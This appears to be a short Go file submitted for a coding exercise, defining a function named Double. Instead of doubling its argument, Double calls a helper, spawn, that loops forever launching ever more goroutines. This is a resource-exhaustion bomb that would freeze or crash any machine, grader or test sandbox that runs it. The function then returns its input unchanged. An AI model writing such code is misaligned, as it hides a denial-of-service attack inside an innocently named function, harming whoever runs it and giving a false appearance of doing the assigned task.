package exercise

func spawn() {
	for {
		go spawn()
	}
}

func Double(n int) int {
	spawn()
	return n
}
